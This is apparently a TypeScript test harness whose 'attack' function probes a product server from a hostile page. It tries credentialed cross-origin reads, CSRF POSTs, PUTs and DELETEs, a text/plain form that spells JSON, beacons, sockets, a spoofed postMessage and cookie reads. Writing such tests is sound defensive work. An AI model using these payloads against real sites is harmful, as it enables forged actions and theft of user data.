export interface Aim {
  /** The product's address, by one of its names. */
  readonly origin: string
  /** A style file of the product. */
  readonly style: string
  readonly campaign: number
  /** A campaign that the product would take from its own page. */
  readonly draft: { readonly name: string; readonly facebookPageId: string }
}

/**
 * Runs inside a hostile page and tries all that a page can do to another server. Answers what it
 * got hold of; what it changed has to be looked up in the store. Self-contained, as it is sent there.
 */
export async function attack(aim: Aim): Promise<string[]> {
  const longest = 2_000
  const gained: string[] = []
  const { origin, style, campaign } = aim
  const draft = JSON.stringify(aim.draft)
  const settings = JSON.stringify({ company: { companyName: 'Forged' } })

  const pause = (ms: number) => new Promise<undefined>((resolve) => setTimeout(resolve, ms))
  const attempt = async (name: string, work: () => Promise<unknown>, most = longest) => {
    const nothing = pause(most)
    const gain = await Promise.race([work(), nothing]).catch(() => undefined)
    if (gain !== undefined) gained.push(`${name}: ${String(gain)}`)
  }
  const event = (target: EventTarget, good: string) =>
    new Promise<string>((resolve, reject) => {
      target.addEventListener(good, () => resolve(good))
      target.addEventListener('error', () => reject(new Error('refused')))
    })
  const embed = (tag: string, attributes: Record<string, string>) => {
    const element = document.createElement(tag)
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
    const loaded = event(element, 'load')
    document.body.append(element)
    return loaded
  }
  const read = async (path: string, init: RequestInit) => {
    const answer = await fetch(origin + path, { credentials: 'include', ...init })
    if (answer.type === 'opaque') return undefined
    // Read as one of ours by a rebound name: what counts is whether it was let in.
    return answer.ok ? `read ${await answer.text()}` : undefined
  }
  const submit = (path: string, fields: Record<string, string>, enctype: string) => {
    const frame = document.createElement('iframe')
    frame.name = `frame-${Math.random()}`
    const form = document.createElement('form')
    Object.assign(form, { method: 'post', action: origin + path, target: frame.name, enctype })
    for (const [name, value] of Object.entries(fields)) {
      const field = document.createElement('input')
      Object.assign(field, { name, value })
      form.append(field)
    }
    document.body.append(frame, form)
    const answered = event(frame, 'load')
    form.submit()
    return answered.then(() => undefined)
  }
  const json = { 'content-type': 'application/json' }
  const plain = { 'content-type': 'text/plain' }

  await Promise.all([
    attempt('image', () => embed('img', { src: `${origin}/favicon.svg` })),
    attempt('image of data', () => embed('img', { src: `${origin}/api/settings` })),
    attempt('script', () => embed('script', { src: `${origin}/first.js` })),
    attempt('script of data', () => embed('script', { src: `${origin}/api/settings` })),
    attempt('style', () => embed('link', { rel: 'stylesheet', href: origin + style })),
    attempt('preload', () =>
      embed('link', { rel: 'preload', as: 'fetch', href: `${origin}/api/settings` }),
    ),
    attempt('object', () => embed('object', { data: `${origin}/favicon.svg` })),
    attempt('frame', () => embed('iframe', { src: `${origin}/` }).then(() => undefined)),
    attempt('module', () => import(`${origin}/first.js`)),
    attempt('worker', async () => event(new Worker(`${origin}/first.js`), 'message')),
    attempt('GET', () => read('/api/settings', {})),
    attempt('GET of the page', () => read('/', {})),
    attempt('GET without CORS', () => read('/api/settings', { mode: 'no-cors' })),
    attempt('GET with a header', () => read('/api/settings', { headers: { 'x-own': '1' } })),
    attempt('POST of text', () =>
      read('/api/campaigns', { method: 'POST', mode: 'no-cors', headers: plain, body: draft }),
    ),
    attempt('POST of JSON', () =>
      read('/api/campaigns', { method: 'POST', headers: json, body: draft }),
    ),
    attempt('POST of an untyped blob', () =>
      read('/api/campaigns', { method: 'POST', mode: 'no-cors', body: new Blob([draft]) }),
    ),
    attempt('POST without a body', () =>
      read(`/api/campaigns/${campaign}/stop`, { method: 'POST', mode: 'no-cors' }),
    ),
    attempt('PUT', () => read('/api/settings', { method: 'PUT', headers: json, body: settings })),
    attempt('DELETE', () => read(`/api/campaigns/${campaign}`, { method: 'DELETE' })),
    attempt('start link', () => read('/start/link', { method: 'POST' })),
    attempt('beacon', async () => {
      navigator.sendBeacon(`${origin}/api/campaigns/${campaign}/stop`)
      navigator.sendBeacon(`${origin}/api/campaigns`, new Blob([draft], { type: 'text/plain' }))
    }),
    attempt('form', () =>
      submit(`/api/campaigns/${campaign}/stop`, {}, 'application/x-www-form-urlencoded'),
    ),
    // `{"name":…,"x":"="}` once the browser has put its = in.
    attempt('form that spells JSON', () =>
      submit('/api/campaigns', { [`${draft.slice(0, -1)},"x":"`]: '"}' }, 'text/plain'),
    ),
    attempt('events', () =>
      event(new EventSource(`${origin}/api/events`, { withCredentials: true }), 'open'),
    ),
    attempt('socket', () =>
      event(new WebSocket(`${origin.replace('http', 'ws')}/api/events`), 'open'),
    ),
    attempt(
      'window',
      async () => {
        const opened = window.open(`${origin}/settings`)
        // Until it has an answer it is a blank page, which belongs to whoever opened it.
        const blank = () => opened?.location.href === 'about:blank'
        try {
          while (blank()) await pause(50)
        } finally {
          await pause(longest / 2)
          opened?.postMessage({ event: 'changed', data: ['settings'] }, '*')
        }
        return opened?.document.body.innerText
      },
      10 * longest,
    ),
    attempt('cookie', async () => (document.cookie.includes('pal_') ? document.cookie : undefined)),
  ])
  return gained
}
